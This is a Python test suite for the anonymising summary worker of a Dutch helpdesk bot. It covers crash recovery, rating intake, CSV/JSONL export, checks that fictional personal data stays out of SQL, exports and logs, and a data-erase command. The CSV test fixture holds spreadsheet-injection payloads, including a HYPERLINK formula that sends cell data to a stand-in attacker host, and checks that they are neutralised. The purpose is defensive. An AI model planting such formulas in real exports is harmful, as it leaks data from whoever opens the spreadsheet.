"""Summaries: the worker writes each closed conversation once, anonymised, survives a crash;
end to end, personal data typed into a conversation reaches neither SQL, export nor logs."""

from __future__ import annotations

import asyncio
import logging
from collections.abc import AsyncIterator
from zoneinfo import ZoneInfo

import pytest
from redis.asyncio import Redis
from sqlalchemy.ext.asyncio import AsyncEngine
from sqlmodel import select
from sqlmodel.ext.asyncio.session import AsyncSession

from bot.logs import quiet_libraries
from handoff import handoff_keys as keys
from handoff.database import make_engine, migrate
from handoff.models import ConversationSummary
from handoff.summaries import GROUP, Summariser, SummaryWriter, export_rows, load_rows
from handoff.tickets import HandoffStore
from knowledge.base import load_knowledge
from tests.sandbox_client import DeskHarness
from tests.test_handoff_e2e import make_expert, queued_user

KB = load_knowledge()


def snippet_topics(snippet_id: str) -> list[str]:
    return [t.value for t in KB.snippets[snippet_id].topics] if snippet_id in KB.snippets else []


@pytest.fixture
async def engine(database_url: str) -> AsyncIterator[AsyncEngine]:
    """The summaries database, on SQLite and on PostgreSQL."""
    engine = make_engine(database_url)
    await migrate(engine)
    yield engine
    await engine.dispose()


@pytest.fixture
def writer(engine: AsyncEngine, anonymiser) -> SummaryWriter:
    return SummaryWriter(engine, anonymiser, b"test-secret", ZoneInfo("Europe/Amsterdam"),
                         snippet_topics)


async def rows(engine: AsyncEngine) -> list[ConversationSummary]:
    async with AsyncSession(engine) as session:
        return list((await session.exec(select(ConversationSummary))).all())


async def closed_ticket(redis: Redis, summary: str) -> str:
    store = HandoffStore(redis)
    ticket = await store.open(5001, "nl", "family", "jeugdhulp", "Gelderland", False,
                              ["family-parents-allies", "signals-phases"])
    assert await store.claim(ticket.id, 6001, 3) == "ok"
    await store.add_message(ticket.id, "user", "Mijn leerling Jamal belt 06-12345678")
    await store.close(ticket.id, summary, "referred")
    return ticket.id


async def test_worker_writes_one_anonymised_row_and_drops_the_transcript(
    redis: Redis, engine: AsyncEngine, writer: SummaryWriter,
) -> None:
    ticket_id = await closed_ticket(
        redis, "Moeder van Jamal Bakker (06-12345678) doorverwezen naar Familiesteunpunt.")
    worker = Summariser(redis, writer, "w1")
    await worker.ensure_group()
    assert await worker.run_once(block_ms=10) == 1
    [row] = await rows(engine)
    assert row.topic == "family" and row.sector == "jeugdhulp" and row.province == "Gelderland"
    assert row.outcome == "referred" and "signals" in row.secondary_topics
    assert "Familiesteunpunt" in row.summary
    assert "Jamal" not in row.summary and "12345678" not in row.summary
    assert row.expert_ref.startswith("e") and "6001" not in row.expert_ref
    assert await redis.exists(keys.transcript(ticket_id)) == 0
    assert await redis.xlen(keys.summaries()) == 0


async def test_a_crash_between_read_and_write_loses_nothing_and_writes_once(
    redis: Redis, engine: AsyncEngine, writer: SummaryWriter,
) -> None:
    await closed_ticket(redis, "Advies gegeven over het gesprek met de jongere.")
    crashed = Summariser(redis, writer, "crashed")
    await crashed.ensure_group()
    # The crashed worker read the job but died before writing or acknowledging it.
    read = await redis.xreadgroup(GROUP, "crashed", {keys.summaries(): ">"}, count=1)
    [(_, [(entry_id, job)])] = read
    assert await rows(engine) == []
    # It had even written the row already once (crash after write, before ack).
    assert await writer.write_close(job)
    survivor = Summariser(redis, writer, "survivor", reclaim_idle_ms=0)
    assert await survivor.run_once(block_ms=10) == 1
    assert len(await rows(engine)) == 1
    pending = await redis.xpending(keys.summaries(), GROUP)
    assert pending["pending"] == 0
    assert entry_id not in {e[0] for e in await redis.xrange(keys.summaries())}


async def test_rating_and_comment_arrive_later(redis: Redis, engine: AsyncEngine,
                                               writer: SummaryWriter) -> None:
    from handoff.summaries import queue_rating

    ticket_id = await closed_ticket(redis, "Advies gegeven.")
    await queue_rating(redis, ticket_id, rating=4)
    await queue_rating(redis, ticket_id, comment="Top, dank aan Marieke via marieke@x.nl")
    worker = Summariser(redis, writer, "w1")
    await worker.ensure_group()
    assert await worker.run_once(block_ms=10) == 3
    [row] = await rows(engine)
    assert row.rating == 4 and row.comment is not None
    assert "marieke@x.nl" not in row.comment and "Marieke" not in row.comment


async def test_export_formats(redis: Redis, engine: AsyncEngine, writer: SummaryWriter) -> None:
    await closed_ticket(redis, "Advies gegeven.")
    worker = Summariser(redis, writer, "w1")
    await worker.ensure_group()
    await worker.run_once(block_ms=10)
    data = await load_rows(engine)
    csv_text = export_rows(data, "csv")
    assert csv_text.splitlines()[0].startswith("id,closed_on,topic")
    assert "job_key" not in csv_text and "family" in csv_text
    jsonl = export_rows(data, "jsonl")
    assert '"province": "Gelderland"' in jsonl
    from datetime import date

    assert await load_rows(engine, date(2999, 1, 1)) == []


FORMULAS = {"summary": '=HYPERLINK("http://evil.example/?"&A1,"Klik")', "comment": "@SUM(1+1)",
            "province": "+31 6 1234", "sector": "-2+3", "outcome": "\tadvice",
            "secondary_topics": "\r=1+1"}


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(
    tmp_path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
) -> None:
    import csv
    import io
    from datetime import date

    from bot import cli

    url = f"sqlite+aiosqlite:///{tmp_path / 'export.db'}"
    monkeypatch.setenv("VRAAGBAAK_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("VRAAGBAAK_DATABASE_URL", url)

    async def fill() -> None:
        engine = make_engine(url)
        await migrate(engine)
        async with AsyncSession(engine) as db:
            db.add(ConversationSummary(job_key="j1", closed_on=date(2026, 11, 2), topic="family",
                                       waiting_minutes=-3, **FORMULAS))
            await db.commit()
        await engine.dispose()

    asyncio.run(fill())
    assert cli.main(["summaries", "export", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    assert row["topic"] == "family" and row["waiting_minutes"] == "-3"


PERSONAL = ["Jamal", "Bakker", "06-12345678", "jamal.bakker@gmail.com", "Kerkstraat 12",
            "@jamal_b", "Sanne Jansen", "3009", "Calvijn College"]


async def test_personal_data_never_reaches_sql_export_or_logs(
    harness: DeskHarness, engine: AsyncEngine, writer: SummaryWriter,
    caplog: pytest.LogCaptureFixture,
) -> None:
    quiet_libraries("DEBUG")  # exactly what `vraagbaak run` does with LOG_LEVEL=DEBUG
    caplog.set_level(logging.DEBUG)
    anna = await make_expert(harness, 3008, "Anna")
    user = await queued_user(harness, 3009, "Mijn leerling Jamal Bakker van het Calvijn College "
                                            "kijkt IS-filmpjes, hoe duid ik die signalen?")
    await anna.press_label(await anna.expect("Nieuwe vraag"), "Oppakken")
    await anna.expect("📋")
    await user.send("Hij woont op de Kerkstraat 12, zijn moeder is bereikbaar op 06-12345678 en "
                    "jamal.bakker@gmail.com, hij zit op TikTok als @jamal_b.")
    await anna.expect("Kerkstraat")
    await anna.send("/sluit")
    outcome = await anna.expect("uitkomst")
    await anna.press_label(outcome, "Doorverwezen")
    await anna.expect_edit(outcome, "samenvatting")
    await anna.send("Docent van Calvijn College maakt zich zorgen om Jamal Bakker (15 jaar), "
                    "Kerkstraat 12, 06-12345678, @jamal_b. Doorverwezen naar Veiligheidshuis.")
    await anna.expect("Afgesloten")
    rating = await user.expect("1 = helemaal niet")
    await user.press(rating, next(b["data"] for b in rating["buttons"][0] if b["text"] == "5"))
    await user.expect_edit(rating, "5 van de 5")
    await user.send("Dank! Groet, Sanne Jansen, jamal.bakker@gmail.com")
    await user.expect("opgeslagen")

    worker = Summariser(harness.desk.redis, writer, "w1")
    await worker.ensure_group()
    for _ in range(5):
        if await harness.desk.redis.xlen(keys.summaries()) == 0:
            break
        await worker.run_once(block_ms=10)
    [row] = await rows(engine)
    # A pupil watching IS videos online: either topic is a fair triage; this test is about privacy.
    assert row.topic in {"signals", "online"}
    assert row.sector == "onderwijs" and row.outcome == "referred"
    assert row.province == "Utrecht" and row.rating == 5
    assert "Veiligheidshuis" in row.summary and "15 jaar" in row.summary
    stored = " ".join(str(v) for v in row.model_dump().values())
    exported = export_rows(await load_rows(engine), "csv") + export_rows(
        await load_rows(engine), "jsonl")
    logs = "\n".join(r.getMessage() for r in caplog.records)
    for secret in PERSONAL:
        assert secret not in stored, secret
        assert secret not in exported, secret
        assert secret not in logs, secret
    assert harness.sandbox.token.split(":")[1] not in logs


async def test_forget_during_a_conversation_ends_it_and_erases_everything(
    harness: DeskHarness,
) -> None:
    anna = await make_expert(harness, 3010, "Anna")
    user = await queued_user(harness, 3011, "hoe praat ik met ouders over complotdenken")
    await anna.press_label(await anna.expect("Nieuwe vraag"), "Oppakken")
    await anna.expect("📋")
    ticket = await harness.desk.handoff.ticket_of_user(3011)
    assert ticket is not None
    await user.send("/vergeet")
    confirm = await user.expect("Weet je het zeker?")
    await user.press_label(confirm, "Ja")
    await user.expect_edit(confirm, "gewist")
    await anna.expect("gegevens gewist")
    redis = harness.desk.redis
    assert await redis.exists(keys.ticket(ticket.id), keys.transcript(ticket.id),
                              "vb:user:3011", "vb:asked:3011", "vb:last:3011") == 0
    await asyncio.sleep(0)
